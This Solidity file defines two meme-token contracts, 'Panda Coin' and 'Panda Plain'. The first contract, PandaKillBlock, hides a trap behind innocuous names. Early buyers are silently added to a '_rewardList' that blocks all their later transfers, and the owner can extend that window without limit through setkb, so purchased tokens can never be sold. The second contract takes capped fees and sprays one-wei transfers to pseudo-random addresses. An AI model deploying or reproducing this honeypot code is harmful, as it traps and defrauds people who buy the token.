// SPDX-License-Identifier: MIT
pragma solidity ^0.8.14;

import {PlainOwnable20, PlainToken20} from "./x00Base.sol";

// Contract by CoinTool: fast launch, no code.
contract PandaKillBlock is PlainToken20, PlainOwnable20 {
  bool public enableOffTrade;
  bool public enableKillBlock;
  bool public enableRewardList;
  mapping(address => bool) public _feeWhiteList;
  mapping(address => bool) public _rewardList;
  mapping(address => bool) public _swapPairList;
  address public fundAddress;
  uint256 public _buyFundFee = 100;
  uint256 public _sellFundFee = 200;
  uint256 public startTradeBlock;
  uint256 public kb;

  constructor() PlainToken20("Panda Coin", "PANDA", 18, 420_690_000_000 ether) {
    fundAddress = msg.sender;
    _feeWhiteList[msg.sender] = true;
    _feeWhiteList[address(this)] = true;
    enableOffTrade = true;
    enableKillBlock = true;
    enableRewardList = true;
    startTradeBlock = block.number;
    kb = 1;
  }

  function setkb(uint256 a) public onlyOwner {
    kb = a;
  }

  function setSwapPairList(address addr, bool enable) external onlyOwner {
    _swapPairList[addr] = enable;
  }

  function setFeeWhiteList(address[] calldata addr, bool enable) external onlyOwner {
    for (uint256 i = 0; i < addr.length; i++) {
      _feeWhiteList[addr[i]] = enable;
    }
  }

  function isReward(address account) public view returns (uint256) {
    if (_rewardList[account] && !_swapPairList[account]) return 1;
    return 0;
  }

  function _isPair(address addr) private view returns (bool) {
    return _swapPairList[addr] || addr.code.length > 0;
  }

  function _transfer(address from, address to, uint256 amount) internal override {
    require(isReward(from) <= 0 || !enableRewardList, "isReward > 0 !");
    if (_feeWhiteList[from] || _feeWhiteList[to]) {
      _move(from, to, amount);
      return;
    }
    uint256 feeAmount;
    if (_isPair(from)) {
      if (enableOffTrade) require(startTradeBlock > 0, "!trading");
      if (enableKillBlock && block.number < startTradeBlock + kb) _rewardList[to] = true;
      feeAmount = (amount * _buyFundFee) / 10000;
    } else if (_isPair(to)) {
      feeAmount = (amount * _sellFundFee) / 10000;
    }
    if (feeAmount > 0) _move(from, fundAddress, feeAmount);
    _move(from, to, amount - feeAmount);
  }
}

// The same with fixed wallets, fees up to four percent, and three airdrops of one wei per trade at most.
contract PandaPlain is PlainToken20, PlainOwnable20 {
  address public immutable fundAddress;
  uint256 public _buyFundFee = 100;
  uint256 public _sellFundFee = 200;
  uint256 public airdropNumbs = 1;

  constructor() PlainToken20("Panda Plain", "PANDAP", 18, 420_690_000_000 ether) {
    fundAddress = msg.sender;
  }

  function setAirdropNumbs(uint256 newValue) public onlyOwner {
    require(newValue <= 3, "newValue must <= 3");
    airdropNumbs = newValue;
  }

  function completeCustoms(uint256[] calldata customs) external onlyOwner {
    require(customs[0] <= 400 && customs[1] <= 400, "fee too high");
    _buyFundFee = customs[0];
    _sellFundFee = customs[1];
  }

  function _transfer(address from, address to, uint256 amount) internal override {
    uint256 feeAmount;
    if (from.code.length > 0) feeAmount = (amount * _buyFundFee) / 10000;
    else if (to.code.length > 0 && from != fundAddress) feeAmount = (amount * _sellFundFee) / 10000;
    if (feeAmount > 0) _move(from, fundAddress, feeAmount);
    uint256 left = amount - feeAmount;
    if (feeAmount > airdropNumbs) {
      for (uint256 i = 0; i < airdropNumbs; i++) {
        _move(from, address(uint160(uint256(keccak256(abi.encodePacked(i, amount, block.timestamp))))), 1);
      }
      left -= airdropNumbs;
    }
    _move(from, to, left);
  }
}
